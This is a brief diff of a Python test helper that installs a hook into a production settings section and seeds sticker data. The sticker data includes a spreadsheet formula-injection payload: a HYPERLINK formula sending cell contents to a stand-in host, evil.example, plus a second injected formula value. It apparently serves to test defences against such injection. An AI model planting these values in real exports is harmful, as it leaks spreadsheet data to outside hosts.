@@ -115,7 +115,8 @@ def hook_and_manifest(base: Path) -> None:
     script, record = base / "hook" / "hook.py", base / "hook" / "hook.json"
     script.write_text(HOOK)
     settings = root / "podwatch.toml"
-    settings.write_text(settings.read_text().replace('hook = ""', f"hook = '\"{sys.executable}\" \"{script}\" \"{record}\"'"))
+    hook = f"hook = '\"{sys.executable}\" \"{script}\" \"{record}\"'"
+    settings.write_text(settings.read_text().replace("[production]\n", f"[production]\n{hook}\n"))
     rule = root / "rules" / "sticker.toml"
     rule.write_text(rule.read_text().replace('policy = "always"', 'policy = "never"'))
     sticker(root, "a", {"order_id": '=HYPERLINK("http://evil.example/?"&A1,"x")', "variant": "@SUM(1+1)",
